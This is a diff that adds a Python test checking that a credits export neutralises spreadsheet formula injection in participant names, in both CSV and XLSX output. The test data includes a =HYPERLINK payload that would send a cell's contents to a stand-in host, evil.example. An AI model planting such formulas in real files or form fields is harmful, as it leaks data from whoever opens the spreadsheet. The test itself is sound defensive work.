@@ -177,3 +177,27 @@ def test_resit_counts_with_its_attempt_and_a_failed_module_says_so(small):
     tara_graded = next(r for r in rows if r[1] == "Tara" and r[6] == "1")
     assert (tara_graded[10], tara_graded[11], tara_graded[12]) == ("5,0", "nein", "1")
     assert date(2027, 4, 20).strftime("%d.%m.%Y") == tara_graded[13]
+
+
+def test_names_that_a_spreadsheet_would_run_are_neutralised_in_csv_and_xlsx(small):
+    """A participant may name herself ``=HYPERLINK(...)``: neither file may hand it to Excel
+    as a formula (CSV: a leading apostrophe; XLSX: a text cell, not a formula cell)."""
+    tara = small["participants"][0].user
+    tara.first_name = '=HYPERLINK("https://evil.example/?x="&C2;"Klick")'
+    tara.last_name = "@SUM(1+1)"
+    tara.save()
+    rows = list(
+        csv.reader(io.StringIO(credits_csv(small["cohort"]).decode("utf-8-sig")), delimiter=";")
+    )
+    tara_rows = [r for r in rows if r[2] == "tara@bund.example"]
+    assert len(tara_rows) == 2
+    for row in tara_rows:
+        assert row[0] == "'@SUM(1+1)"
+        assert row[1] == '\'=HYPERLINK("https://evil.example/?x="&C2;"Klick")'
+    sheet = load_workbook(io.BytesIO(credits_xlsx(small["cohort"]))).active
+    cells = [row for row in sheet.iter_rows(min_row=2) if row[2].value == "tara@bund.example"]
+    assert len(cells) == 2
+    for row in cells:
+        assert (row[0].data_type, row[1].data_type) == ("s", "s")
+        assert row[0].value == "'@SUM(1+1)"
+        assert row[1].value == '\'=HYPERLINK("https://evil.example/?x="&C2;"Klick")'
